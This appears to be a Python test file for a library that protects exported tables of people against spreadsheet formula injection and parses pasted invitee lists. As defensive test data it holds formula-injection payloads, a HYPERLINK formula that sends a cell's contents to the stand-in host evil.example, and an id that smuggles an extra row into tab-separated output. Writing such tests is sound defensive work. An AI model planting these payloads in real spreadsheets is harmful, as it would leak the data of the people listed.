"""Tables with people: a spreadsheet runs nothing of them, and reading undoes what that takes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import qrowd as q
from qrowd.errors import InputError
from qrowd.io.people import encoded_people, original, read_pasted, safe, save_people

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '"=1"', " =1", "＝1", "'=1"]
SEPARATORS = ",;\t|"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert safe(text).startswith("'")
    assert original(safe(text)) == text


@pytest.mark.parametrize(
    "text", ["ann", "a=b", "ann@example.org", "'s-Hertogenbosch", "5f+e-1", ""]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert safe(text) == original(text) == text


@given(st.text(alphabet="=+-@'\" \t\r\n,;|aé＝", max_size=12))
def test_every_text_comes_back_and_no_part_of_it_runs(text: str) -> None:
    assert original(safe(text)) == text
    for separator in SEPARATORS:  # whatever a spreadsheet is set to
        for cell in safe(text).split(separator):
            assert not cell.strip(' \r\n"').startswith(("=", "+", "-", "@", "＝"))


@pytest.mark.parametrize(
    "name", ["owed.csv", "owed.tsv", "owed.csv.gz", "owed.json", "owed.parquet"]
)
def test_a_table_comes_back_and_is_its_owners(name: str, tmp_path: Path) -> None:
    table = {"id": [HYPERLINK, "bob;=1+1", "'x", "'=x", "ann"], "amount": ["1.00"] * 5}
    save_people(table, tmp_path / name)
    assert q.read_people(tmp_path / name) == table
    assert (tmp_path / name).stat().st_mode & 0o777 == 0o600


def test_a_table_that_a_spreadsheet_saved_again_with_semicolons(tmp_path: Path) -> None:
    (cells,) = list(csv.reader(io.StringIO(encoded_people({"id": ["=x"]}, "a.csv").decode())))[1:]
    (tmp_path / "again.csv").write_text(f"id;amount\n{cells[0]};1\n")
    assert q.read_people(tmp_path / "again.csv") == {"id": ["=x"], "amount": ["1"]}


def test_forms_for_machines_are_exact() -> None:
    assert HYPERLINK.replace('"', '\\"').encode() in encoded_people({"id": [HYPERLINK]}, "a.json")


def test_an_id_cannot_be_two_lines_of_a_table_with_tabs() -> None:
    with pytest.raises(InputError, match=r"use the suffix \.csv"):
        encoded_people({"id": ["x\nw9\town\tmallory"]})


# --- pasted ---------------------------------------------------------------------------------------


def person(id: str, name: str = "", email: str = "", language: str = "") -> dict[str, str]:
    """A row of people who are to be invited."""
    return {"id": id, "name": name, "email": email, "language": language}


@pytest.mark.parametrize(
    ("text", "people"),
    [
        ("ann\n\n  bob  ", [(1, person("ann")), (3, person("bob"))]),
        ("Lee, Ann", [(1, person("Lee, Ann"))]),
        ("a@x.org", [(1, person("a@x.org", email="a@x.org"))]),
        ("a@x.org, Ann Lee", [(1, person("a@x.org", "Ann Lee", "a@x.org"))]),
        ("ann;a@x.org;Ann Lee;de", [(1, person("ann", "Ann Lee", "a@x.org", "de"))]),
        ("ann\tAnn Lee\ta@x.org\tde", [(1, person("ann", "Ann Lee", "a@x.org", "de"))]),
        ("ann;Ann Lee;;de", [(1, person("ann", "Ann Lee", "", "de"))]),
        (
            'Ann <a@x.org>; "Roth, B" <b@x.org>',
            [
                (1, person("a@x.org", "Ann", "a@x.org")),
                (1, person("b@x.org", "Roth, B", "b@x.org")),
            ],
        ),
        ("E-Mail\na@x.org\n", [(2, person("a@x.org", email="a@x.org"))]),
        ('email,name\na@x.org,"Lee, Ann"', [(2, person("a@x.org", "Lee, Ann", "a@x.org"))]),
        ("id\tname\nann", [(2, person("ann"))]),
    ],
)
def test_people_are_pasted_as_people_have_them(
    text: str, people: list[tuple[int, dict[str, str]]]
) -> None:
    assert read_pasted(text) == people


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (" \n", "nobody in it"),
        ("id\tname", "nobody in it"),
        ("ann;b;c;d;e", "5 fields"),
        ("id;name\nann;b;c", "3 fields"),
        ("id;shoe size\nann;9", "'shoe size' is none of them"),
    ],
)
def test_what_is_no_list_of_people_is_refused(text: str, problem: str) -> None:
    with pytest.raises(InputError, match=problem):
        read_pasted(text)


@given(st.lists(st.text(st.characters(blacklist_categories=("C", "Z")), min_size=1), min_size=1))
def test_what_is_encoded_is_pasted_back(ids: list[str]) -> None:
    table = {"id": ids, "name": [f"{one} {one}" for one in ids]}
    people = read_pasted(encoded_people(table).decode())
    assert [fields["id"] for _, fields in people] == ids
    assert [fields["name"] for _, fields in people] == table["name"]
